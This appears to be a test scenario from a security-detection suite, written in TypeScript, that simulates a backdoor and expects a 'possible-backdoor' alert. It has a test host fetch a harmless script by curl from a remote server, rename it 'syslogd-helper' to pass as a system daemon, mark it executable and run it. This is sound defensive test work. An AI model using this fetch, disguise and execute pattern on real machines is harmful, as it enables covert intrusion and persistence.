/** A program that was fetched, then made executable and started by its own line. */
import { setTimeout as sleep } from "node:timers/promises";
import type { Attack } from "../attack.ts";

export const attack = {
  alert: "possible-backdoor",
  needs: ["root", "audit", "sshd"],
  prepare: async (host) => {
    host.downloads.put(`/${host.word}`, "#!/bin/sh\nexit 0\n");
    await host.type(`curl -s -o ${host.directory}/agent http://${host.remote}:${host.downloads.port}/${host.word}`);
    await host.type(
      `mv ${host.directory}/agent ${host.directory}/syslogd-helper; chmod +x ${host.directory}/syslogd-helper`,
    );
    await sleep(1_000);
  },
  perform: async (host) => void (await host.type(`${host.directory}/syslogd-helper`)),
  expect: (finding, host) => JSON.stringify(finding.evidences).includes(host.directory),
} satisfies Attack;
